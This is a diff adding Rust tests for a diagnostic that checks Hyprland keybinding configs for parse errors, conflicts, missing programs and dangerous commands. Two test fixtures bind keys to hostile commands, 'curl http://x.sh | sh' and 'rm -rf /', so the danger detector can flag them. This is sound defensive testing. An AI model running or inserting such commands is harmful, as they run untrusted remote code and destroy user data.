@@ -0,0 +1,127 @@
+// Copyright 2025 Eric Jingryd (tidynest@proton.me)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+//! Doctor report tests
+
+use std::{fs, os::unix::fs::PermissionsExt, path::Path};
+
+use tempfile::TempDir;
+
+use crate::config::{
+    danger::DangerDetector,
+    doctor::{diagnose, DoctorReport, Severity},
+    resolve::CommandResolver,
+};
+
+fn report(config: &str, resolver: &CommandResolver) -> DoctorReport {
+    diagnose(
+        config,
+        Path::new("/tmp/hyprland.conf"),
+        &DangerDetector::new(),
+        resolver,
+    )
+}
+
+fn severities(report: &DoctorReport, title: &str) -> Vec<Severity> {
+    report
+        .sections
+        .iter()
+        .find(|section| section.title == title)
+        .unwrap_or_else(|| panic!("no {} section", title))
+        .findings
+        .iter()
+        .map(|finding| finding.severity)
+        .collect()
+}
+
+#[test]
+fn test_findings_are_sorted_into_sections() {
+    let config = "\
+bind = SUPER, Q, killactive
+bind = SUPER, Q, exec, kitty
+bind = SUPER, E, frobnicate
+bind = SUPER, W, workspace, name:3
+bind = SUPER FOO, T, exec, kitty
+bind = SUPER, D, exec, curl http://x.sh | sh
+";
+    let report = report(config, &CommandResolver::default());
+
+    let titles: Vec<_> = report.sections.iter().map(|s| s.title).collect();
+    assert_eq!(
+        titles,
+        [
+            "Parsing",
+            "Security",
+            "Dispatchers",
+            "Conflicts",
+            "Programs"
+        ]
+    );
+
+    assert_eq!(severities(&report, "Parsing"), [Severity::Warning]);
+    // Layer 1 rejects the pipe and Layer 2 still says what it does
+    let security = &report.sections[1].findings;
+    assert!(security.len() >= 2);
+    assert!(security.iter().all(|f| f.severity >= Severity::Error));
+    assert!(security
+        .iter()
+        .any(|f| f.message.contains("metacharacters")));
+    assert_eq!(
+        severities(&report, "Dispatchers"),
+        [Severity::Error, Severity::Warning]
+    );
+    assert_eq!(severities(&report, "Conflicts").len(), 1);
+    // Nothing resolves with an empty resolver
+    assert!(!severities(&report, "Programs").is_empty());
+
+    let conflict = &report.sections[3].findings[0];
+    assert!(conflict.message.contains("SUPER+Q"), "{}", conflict.message);
+    assert!(conflict.suggestion.is_some());
+    assert_eq!(
+        report.findings().next().unwrap().location.as_deref(),
+        Some("/tmp/hyprland.conf:5")
+    );
+}
+
+#[test]
+fn test_exit_code_follows_worst_severity() {
+    let dir = TempDir::new().unwrap();
+    let kitty = dir.path().join("kitty");
+    fs::write(&kitty, "#!/bin/sh\n").unwrap();
+    fs::set_permissions(&kitty, fs::Permissions::from_mode(0o755)).unwrap();
+    let resolver = CommandResolver {
+        path_dirs: vec![dir.path().to_path_buf()],
+        ..Default::default()
+    };
+
+    let clean = report(
+        "bind = SUPER, Return, exec, kitty\nbind = SUPER, Q, killactive\n",
+        &resolver,
+    );
+    assert!(clean.findings().next().is_none());
+    assert_eq!(clean.worst(), None);
+    assert_eq!(clean.exit_code(), 0);
+
+    let warning = report("bind = SUPER, W, workspace, name:3\n", &resolver);
+    assert_eq!(warning.worst(), Some(Severity::Warning));
+    assert_eq!(warning.exit_code(), 1);
+
+    let error = report("bind = SUPER, E, frobnicate\n", &resolver);
+    assert_eq!(error.exit_code(), 2);
+    assert_eq!(error.count(Severity::Error), 1);
+
+    let critical = report("bind = SUPER, X, exec, rm -rf /\n", &resolver);
+    assert_eq!(critical.worst(), Some(Severity::Critical));
+    assert_eq!(critical.exit_code(), 3);
+}